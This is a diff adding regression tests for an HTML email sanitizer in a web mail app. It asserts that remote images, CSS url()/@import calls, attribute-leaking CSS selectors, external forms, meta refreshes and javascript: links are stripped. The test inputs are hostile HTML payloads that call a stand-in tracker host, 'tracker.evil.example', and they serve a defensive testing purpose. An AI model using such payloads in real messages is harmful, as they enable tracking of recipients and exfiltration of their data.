@@ -1,8 +1,10 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sanitizeEmailHtml } from '../../src/mail/incoming/sanitizeHtml.js';
 import { createTestContext, createUser, PASSWORD, signIn, type TestContext, XHR } from '../helpers.js';
 
 // Regression tests of attack classes that hit products like this one (issue 13, item 5): session
-// fixation, cookie flags, and cross-site request forgery by every shape a browser can send.
+// fixation, cookie flags, cross-site request forgery by every shape a browser can send, and HTML mail
+// that would fetch remote content (read receipts, CSS exfiltration) when shown.
 
 let t: TestContext;
 beforeAll(async () => {
@@ -179,5 +181,44 @@ describe('the page shell', () => {
     const state = /<script id="initial-state" type="application\/json">(.*?)<\/script>/s.exec(res.body)?.[1];
     expect(JSON.parse(state as string).user.name).toBe("Al $` $' $& $$ Ice");
     expect(res.body.match(/<script id="initial-state"/g)).toHaveLength(1);
+  });
+});
+
+describe('HTML mail shown in the inbox and the outbox', () => {
+  it.each([
+    ['a remote image (a read receipt)', '<p>Hi</p><img src="https://tracker.evil.example/open.gif">'],
+    [
+      'a background image',
+      '<table background="https://tracker.evil.example/bg.png"><tr><td>Hi</td></tr></table>',
+    ],
+    [
+      'a style attribute fetching a URL',
+      '<div style="background:url(https://tracker.evil.example/?q=1)">Hi</div>',
+    ],
+    [
+      'a style sheet importing a URL',
+      '<style>@import url(https://tracker.evil.example/x.css);</style><p>Hi</p>',
+    ],
+    [
+      'CSS that leaks attribute values',
+      '<style>input[value^="a"]{background:url(https://tracker.evil.example/a)}</style><p>Hi</p>',
+    ],
+    ['a linked style sheet', '<link rel="stylesheet" href="https://tracker.evil.example/x.css"><p>Hi</p>'],
+    ['a picture source', '<picture><source srcset="https://tracker.evil.example/p.png"></picture><p>Hi</p>'],
+    ['a video poster', '<video poster="https://tracker.evil.example/v.png"></video><p>Hi</p>'],
+    ['a form posting elsewhere', '<form action="https://tracker.evil.example/steal"><input name="x"></form>'],
+    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://tracker.evil.example/"><p>Hi</p>'],
+  ])('keeps the text and fetches nothing: %s', (_name, html) => {
+    const clean = sanitizeEmailHtml(html);
+    expect(clean).not.toContain('tracker.evil.example');
+    expect(clean).not.toMatch(/<(img|style|link|source|video|form|input|meta)\b|style=|background=/i);
+  });
+
+  it('keeps a link a person may follow, and only a safe one', () => {
+    expect(sanitizeEmailHtml('<a href="https://records.example/x" onclick="steal()">records</a>')).toBe(
+      '<a href="https://records.example/x" rel="noopener noreferrer" target="_blank">records</a>',
+    );
+    const refused = sanitizeEmailHtml('<a href="javascript:steal()">records</a>');
+    expect(refused).toMatch(/^<a href="about:blank"[^>]*>records<\/a>$/);
   });
 });
